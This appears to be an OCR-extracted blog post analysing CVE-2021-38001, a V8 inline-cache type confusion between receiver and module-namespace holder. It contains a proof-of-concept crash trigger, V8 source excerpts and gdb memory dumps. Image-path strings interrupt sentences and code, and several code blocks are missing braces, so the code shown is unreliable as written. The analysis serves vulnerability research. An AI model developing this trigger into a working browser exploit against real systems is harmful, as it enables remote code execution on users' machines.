CVE-2021-38001: A Brief Introduction to V8 Inline Cache and Exploitating Type Confusion

Some Background Info

CVE-2021-38001 is reported on TianFu Cup 2021. This bug exploits a type confusion issue happened in V8’s inline cache and can result in remote code execution.

In my last V8 pwn blog, I analyzed and reproduced CVE-2020-6507. Its root cause is an OOB read/write issue happened in V8’s JIT phase. But to exploit the bug, I didn’t need to understand how JIT works in V8 at all.This time, CVE-2021-38001 as a type confusion bug, requires some basic knowledge on what an inline cache is, and how it works in v8.

Briefly Knowing Inline Cache

When I first hear about the term ‘Inline Cache’, I have no idea what it does. I am aware it’s some sort of cache, but have no clue where ‘inline’ fits in(I still don’t).

To get started, let’s take a look at some JS code:

class A {
    constructor() {
        this.a = 69
        this.b = 420

let a = new A()

We know that, a will have property of a.a and a.b. It’s property should be stored in the property field of its JSObject. When we write another line of code like: console.log(a.a), and examining the byte code generated by V8:

we see this LdaNamedProperty call. I’m not going to read V8’s source code on this, but one thing to know is, V8 uses this function to load properties.

By analyzing a in gdb, we see:and look at its memory content:

we have the values of properties we are looking for. I guess the name of properties are stored somewhere else, but not quite relevant in this case. When properties are few, V8 will store values right after its metadata(e.g. HiddenClass, Property, Element) just like our case. When properties are kept added, V8 will allocate an array like object to store those additional properties.

Now, we understand how V8 find properties a bit, let’s consider this: when an object’s property is being accessed many times, surely V8 will do something about it to speed up the execution, right? This is where Inline Cache(IC) comes in.
IC caches frequently accessed properties, to speed things up, entries in IC willnot go through the normal process of property looking up, instead, IC stores the offset of property relative to the object being accessed. There are 3 states of IC in V8:

  1. Monomorphic IC: when only one type of object has the property
  2. Polymorphic IC: when multiple types of object have the same property
  3. Megamorphic IC: when too many types of object all have the same property

Continue with our code example, suppose I add this function:

function foo(obj) {
    return obj.a

for monomorphic IC, when I only call foo with one type, and similarly, I call foo(obj1) and foo(obj2) with obj1 and obj2 being different types of objects in polymorphic IC, the same applies for megamorphic IC.

When a property is being accessed first time, it’s not in the cache, but after a few times’ access, V8 will put it in IC, and after IC stores itsinformation, when this property is being accessed again, it will hit IC, and IC will provide a faster way of getting its value.

To give a brief example, in our a object example, when a.b hits IC, it will find object a‘s address, and get whatever value is at its address(a) + 0xc offset.

At this point, you may see how this is going, if we somehow makes IC think the object’s property we are accessing is another object, it will go to this another object’s offset and get the value. But before we dive into the root cause of this bug, and how to exploit type confusion, we need to know about receiver, lookup_start_object and holder in V8.

Now, we add more classes to our example code:

class B extends A {
    constructor() {
        this.c = 1337

class C extends B {
    constructor() {
        this.d = 42

function bar(obj) {
    return obj.c


Assume we call bar. In this case, receiver is the object who is initiating the property lookup, and in our case, c is the receiver as the property access is from c. lookup_start_object is the object which the lookup starts on, and in our case, at first, it will be c as well. But since C doesn’t really have the property C.c declared in its constructor, so V8 continues to go up the hierachy. B is C‘s parent class, and it will be lookup_start_object‘s next value, since B has the property B.c, the lookup will stop here, and it assigns holder to B, as it owns the property named c. If there’s another function trying to access obj.b, the process will be similar, but holder will be A, and lookup_start_object will start as C, then B, and eventually A.

Root Cause Analysis

Here is a screenshot of the patch:

For someone doesn’t know a lot about V8 internals like me, I really have no idea what the problem is. But from skimming through it, it probably has something to dowith module import or exports. Lucky for me, there is a PoC shared by vngkv123, also check out his/her analysis on this bug:

import * as module from "1.mjs";

function poc() {
    class C {
        m() {
            return super.y;

    let zz = {aa: 1, bb: 2};
    // receiver vs holder type confusion
    function trigger() {
        // set lookup_start_object
        C.prototype.__proto__ = zz;
        // set holder
        C.prototype.__proto__.__proto__ = module;

        // "c" is receiverin ComputeHandler []
        // "module" is holder
        // "zz" is lookup_start_object
        let c = new C();

        c.x0 = 0x40404040 / 2;
        c.x1 = 0x42424242 / 2;
        c.x2 = 0x44444444 / 2;
        c.x3 = 0x46464646 / 2;
        c.x4 = 0x48484848 / 2;

        // LoadWithReceiverIC_Miss
        // => UpdateCaches (Monomorphic)
        // CheckObjectType with "receiver"
        let res = c.m();

    for (let i = 0; i <0x100; i++) {


The PoC imports some variable from a module, and in the trigger() function, it sets the prototype of class C, create a new instance of C, and sets multiple properties of it, and finally, returns c.m(), which fetches the value of super.y.

Now, we jump back to V8, and let’s read some source. In, ComputeHandler function finds the handler for the lookup object. I recommand reading its entire code, but here is what matters to this CVE:

Handle<Object> LoadIC::ComputeHandler(LookupIterator* lookup) {
    // ... snip
  switch (lookup->state()) {
        // ...

    case LookupIterator::ACCESSOR: {
      Handle<JSObject> holder = lookup->GetHolder<JSObject>();
      // Use simple field loads for some well-known callback properties.
      // The method will only return true for absolute truths based on the
      // lookup start object maps.
      FieldIndex index;
            // ...
      if (holder->IsJSModuleNamespace()) {Handle<ObjectHashTable> exports(
        InternalIndex entry =
            exports->FindEntry(isolate(), roots, lookup->name(),
        // We found the accessor, so the entry must exist.
        int index = ObjectHashTable::EntryToValueIndex(entry);
        return LoadHandler::LoadModuleExport(isolate(), index);
    // ...

In the switch statement, it checks the lookup object’s state. Its states are defined in lookup.h:

  enum State {
    // Set state_ to BEFORE_PROPERTY to ensure that the next lookup will be a
    // PROPERTY lookup.

I couldn’t find much info on what ACCESSOR represents, so I turned ChatGPT for help. At least according to it, ACCESSOR is used to access property when there is getter and setter methods. Enough of this, let’s continue down the path. When the property holder is in JSModuleNamespace, it finds the entry in exports of the module, then, finds theindex of the value, and finally, returns LoadModuleExport(isolate(), index).

Let’s follow up and read the code for LoadModuleExport in handler-configuration-inl.h:

Handle<Smi> LoadHandler::LoadModuleExport(Isolate* isolate, int index) {
  int config =
      KindBits::encode(kModuleExport) | ExportsIndexBits::encode(index);
  return handle(Smi::FromInt(config), isolate);

Not sure what it really does, but I assume it takes the index of value and loads it.

For now, we have a general idea on how the property’s value is returned:


In, it’s also the file being patched, we have a snippet:

    Comment("module export");
    TNode<UintPtrT> index =
    TNode<Module> module = LoadObjectField<Module>(CAST(p->receiver()), JSModuleNamespace::kModuleOffset);
    TNode<ObjectHashTable> exports =
        LoadObjectField<ObjectHashTable>(module, Module::kExportsOffset);
    TNode<Cell> cell = CAST(LoadFixedArrayElement(exports, index));
    // The handler is only installed for exports that exist.
    TNode<Object> value = LoadCellValue(cell);
    Label is_the_hole(this, Label::kDeferred);
    GotoIf(IsTheHole(value), &is_the_hole);

      TNode<Smi> message = SmiConstant(MessageTemplate::kNotDefined);
      exit_point->ReturnCallRuntime(Runtime::kThrowReferenceError, p->context(),
                                    message, p->name());

It binds with module_export, and does the following:

  1. loads the moduleobject from p->receiver() in the JSModuleNamespace object
  2. loads the exports object from module object based on offset
  3. gets the cell at certain index from exports
  4. loads the value at cell
  5. returns the value

But wait a minute, if we read carefully at

Handle<ObjectHashTable> exports(

we see cast(holder)->module().exports(), and in

        CAST(p->receiver()), JSModuleNamespace::kModuleOffset);

First we are passing inholder as the lookup_start_object, and later, we are accessing receiver‘s property based on offsets. And this is the type confusion between holder and receiver. When lookup_start_object(holder) and receiver are different, type confusion is triggered.

Recall the PoC earlier, in the trigger() function, wefirst set C‘s prototype to zz, and zz‘s prototype to module variable, which is an object from JSModuleNamespace. Now, when c.m() is called, it tries to find super.y, which is a property owned by its parent class. Since zz doesn’t have this property, it goes up the prototype chain and finds module as its eventual holder. In this case, receiver is C and holder is module. And in IC, when IC tries to access the property, it lookups to the offset of JSModuleNamespace->module first, which will fail since the JSModuleNamespace is now C. And it will continue down this path.

When we try to execute this PoC in d8, it will throw amemory access error:

we see the value of C.x0 is accessed as a pointer, and since this address doesn’t have anything, SEGV_ACCERR happens.

Let’s use gdb to debug and see normally how would IC finds the property. Here is the debug info about JSModuleNamespace:

DebugPrint: 0xac30804a0c5: [JSModuleNamespace]
 - map: 0x0ac308207b69 <Map(DICTIONARY_ELEMENTS)> [DictionaryProperties]
 - prototype: 0x0ac308002235 <null>
 - elements: 0x0ac308003295 <NumberDictionary[7]> [DICTIONARY_ELEMENTS]
 - module: 0x0ac3081d3535 <Other heap object (SOURCE_TEXT_MODULE_TYPE)>
 - properties: 0x0ac30804a0d9 <NameDictionary[17]>
 - All own properties (excluding elements): {
   0x0ac308005669 <Symbol: Symbol.toStringTag>: 0x0ac3080049f5 <String[6]: #Module> (data, dict_index: 1, attrs: [___]
   bar: 0x0ac3081d35c5 <AccessorInfo> (accessor, dict_index: 2, attrs: [WE_])
 - elements: 0x0ac308003295 <NumberDictionary[7]> {
   - max_number_key: 0

we see module is at 0x081d3535‘s offset, and examine its memory space:

it’s at JSModuleNamespace+0xc‘s offset. Next one should be module->exports:

0xac3081d3535: [SourceTextModule] in OldSpace
 - map: 0x0ac308002ddd <Map[72]>
 - exports: 0x0ac308049e8d <HashTable[11]>
 - status: 6
 - exception: 0x0ac30800242d <the_hole>
